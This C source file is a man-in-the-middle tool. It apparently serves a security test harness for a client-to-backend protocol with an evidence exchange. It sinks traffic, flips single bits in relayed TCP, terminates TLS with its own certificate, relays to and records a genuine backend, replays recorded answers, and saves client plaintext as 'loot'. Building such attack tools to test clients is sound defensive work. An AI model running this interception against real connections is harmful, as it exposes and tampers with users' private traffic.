// SPDX-License-Identifier: BSD-2-Clause
/*
 * mitm -m sink [-o LOOT] ADDRESS PORT
 * mitm -m splice -u ADDRESS,PORT [-f N|-F N] ADDRESS PORT
 * mitm -m tls -c CERTIFICATE -k KEY [-a ALPN] [-u ADDRESS,PORT [-w ANSWERS]|-r ANSWERS]
 *      [-o LOOT] ADDRESS PORT
 *
 * Whoever sits where a backend's flows arrive.  sink keeps what it is sent.  splice passes
 * TCP on and turns over one bit of the N-th byte towards the client (-f) or the backend (-F).
 * tls ends TLS with a certificate of its own; then it passes all on to a TLS session of its own
 * with a genuine backend, writing what that says to ANSWERS; or says what ANSWERS holds, one
 * message for each that it gets; or just listens.
 *
 * LOOT gets what a client said, but for the messages of the evidence exchange, which are no
 * secret: it is the application's plaintext that this is after.
 */
#include <fcntl.h>
#include <getopt.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "attacks/stream.h"

enum {
	WAIT_MS = 5000,
	MESSAGE_MAX = 8192, /* of the exchange, towards the backend */
	ANSWER_MAX = 262144,
	BLOCK = 16384,
};

static struct {
	SSL_CTX *server, *client;
	const char *mode, *certificate, *key, *alpn;
	char *upstream, *upstream_port;
	FILE *loot, *write, *answers;
	long flip_back, flip_forth; /* 1: the first byte; 0: none */
} mitm;

/* --- what is loot */

/* A client's bytes so far, as far as they may still be messages of the exchange. */
struct watch {
	uint8_t head[5];
	size_t head_n, rest;
	bool loot; /* from here on everything is */
};

static void keep(const void *p, size_t n)
{
	if (!mitm.loot)
		return;
	fwrite(p, 1, n, mitm.loot);
	fflush(mitm.loot);
}

/* Whether a message is complete with this byte. */
static bool watch_byte(struct watch *w, uint8_t b)
{
	size_t n;

	if (w->rest)
		return --w->rest == 0;
	w->head[w->head_n++] = b;
	if (w->head_n < sizeof(w->head))
		return false;
	n = (size_t)w->head[0] << 24 | w->head[1] << 16 | w->head[2] << 8 | w->head[3];
	w->head_n = 0;
	if (n < 2 || n > MESSAGE_MAX || b != '{') {
		w->loot = true;
		keep(w->head, sizeof(w->head));
		return false;
	}
	w->rest = n - 1;
	return false;
}

/* How many messages ended in p. */
static unsigned int watch(struct watch *w, const uint8_t *p, size_t n)
{
	unsigned int messages = 0;

	for (size_t i = 0; i < n; i++) {
		if (w->loot) {
			keep(p + i, n - i);
			return messages;
		}
		messages += watch_byte(w, p[i]);
	}
	return messages;
}

/* --- what is said back */

/* The next message of ANSWERS, as it was recorded. */
static bool replay(struct stream *client)
{
	static uint8_t message[ANSWER_MAX + 4];
	size_t n;

	if (!mitm.answers || fread(message, 4, 1, mitm.answers) != 1)
		return true;
	n = (size_t)message[0] << 24 | message[1] << 16 | message[2] << 8 | message[3];
	if (n > ANSWER_MAX || fread(message + 4, 1, n, mitm.answers) != n)
		return false;
	printf("replayed %zu bytes\n", n + 4);
	return stream_write(client, message, n + 4);
}

static void listen_to(struct stream *client)
{
	struct watch w = { 0 };
	uint8_t block[BLOCK];
	ssize_t n;

	if (mitm.answers)
		rewind(mitm.answers);
	while ((n = stream_read(client, block, sizeof(block))) > 0)
		for (unsigned int m = watch(&w, block, n); m; m--)
			if (!replay(client))
				return;
}

/* --- in between */

static bool dial(struct stream *model, const char *alpn)
{
	int fd = stream_dial(mitm.upstream, mitm.upstream_port, WAIT_MS);

	if (fd < 0)
		return false;
	if (alpn) {
		unsigned char wire[64] = { strlen(alpn) };

		memcpy(wire + 1, alpn, wire[0]);
		SSL_CTX_set_alpn_protos(mitm.client, wire, wire[0] + 1);
	}
	return stream_connect(model, fd, mitm.client, NULL);
}

struct way {
	struct stream *from, *to;
	struct watch *watch; /* NULL: towards the client */
	long flip;
	size_t carried;
};

static bool carry(struct way *w)
{
	uint8_t block[BLOCK];
	ssize_t n = stream_read(w->from, block, sizeof(block));

	if (n <= 0)
		return false;
	if (w->flip > 0 && w->flip <= n) {
		block[w->flip - 1] ^= 1;
		printf("turned over a bit\n");
	}
	w->flip -= n;
	w->carried += n;
	if (w->watch)
		watch(w->watch, block, n);
	else if (mitm.write && (fwrite(block, 1, n, mitm.write) != (size_t)n || fflush(mitm.write)))
		return false;
	return stream_write(w->to, block, n);
}

static bool ready(const struct way *w, const struct pollfd *p)
{
	return w->from->begin != w->from->end || (w->from->ssl && SSL_pending(w->from->ssl)) ||
	       p->revents;
}

static void stand_between(struct stream *client, struct stream *model)
{
	struct watch w = { .loot = !mitm.server };
	struct way forth = { client, model, &w, mitm.flip_forth, 0 };
	struct way back = { model, client, NULL, mitm.flip_back, 0 };
	struct pollfd p[2] = { { client->fd, POLLIN, 0 }, { model->fd, POLLIN, 0 } };

	for (;;) {
		if (!ready(&forth, &p[0]) && !ready(&back, &p[1]) && poll(p, 2, WAIT_MS) <= 0)
			break;
		if ((ready(&forth, &p[0]) && !carry(&forth)) ||
		    (ready(&back, &p[1]) && !carry(&back)))
			break;
		p[0].revents = p[1].revents = 0;
	}
	printf("carried %zu bytes forth and %zu back\n", forth.carried, back.carried);
}

static void serve(int fd)
{
	static struct stream client, model;

	stream_wait(fd, WAIT_MS);
	if (!stream_accept(&client, fd, mitm.server)) {
		puts("no TLS came about");
		return;
	}
	puts("a client is connected");
	if (mitm.upstream) {
		if (dial(&model, mitm.alpn)) {
			stand_between(&client, &model);
			stream_close(&model);
		} else {
			puts("the backend does not answer");
		}
	} else if (mitm.server) {
		listen_to(&client);
	} else {
		uint8_t block[BLOCK];
		ssize_t n;

		while ((n = stream_read(&client, block, sizeof(block))) > 0)
			keep(block, n);
	}
	stream_close(&client);
}

static bool parse(int option)
{
	switch (option) {
	case 'm':
		return (mitm.mode = optarg);
	case 'c':
		return (mitm.certificate = optarg);
	case 'k':
		return (mitm.key = optarg);
	case 'a':
		return (mitm.alpn = optarg);
	case 'u':
		mitm.upstream_port = optarg;
		mitm.upstream = strsep(&mitm.upstream_port, ",");
		return mitm.upstream_port;
	case 'o':
		return (mitm.loot = fopen(optarg, "ae"));
	case 'w':
		return (mitm.write = fopen(optarg, "we"));
	case 'r':
		return (mitm.answers = fopen(optarg, "re"));
	case 'f':
		return (mitm.flip_back = atol(optarg)) > 0;
	case 'F':
		return (mitm.flip_forth = atol(optarg)) > 0;
	default:
		return false;
	}
}

static bool prepare(void)
{
	if (!mitm.mode || (!strcmp(mitm.mode, "splice") && !mitm.upstream))
		return false;
	if (strcmp(mitm.mode, "tls"))
		return true;
	if (!mitm.certificate || !mitm.key)
		return false;
	mitm.server = stream_server(mitm.certificate, mitm.key, mitm.alpn);
	mitm.client = stream_client(NULL);
	return mitm.server && mitm.client;
}

int main(int argc, char **argv)
{
	int option, listener;

	signal(SIGPIPE, SIG_IGN);
	setvbuf(stdout, NULL, _IOLBF, 0);
	while ((option = getopt(argc, argv, "m:c:k:a:u:o:w:r:f:F:")) != -1)
		if (!parse(option))
			return 2;
	if (argc - optind != 2 || !prepare()) {
		fputs("mitm -m sink|splice|tls [OPTIONS] ADDRESS PORT\n", stderr);
		return 2;
	}
	listener = stream_listen(argv[optind], argv[optind + 1]);
	if (listener < 0) {
		perror("mitm: listen");
		return 1;
	}
	for (;;) { /* one after the other: files are shared */
		int fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);

		if (fd >= 0)
			serve(fd);
	}
}
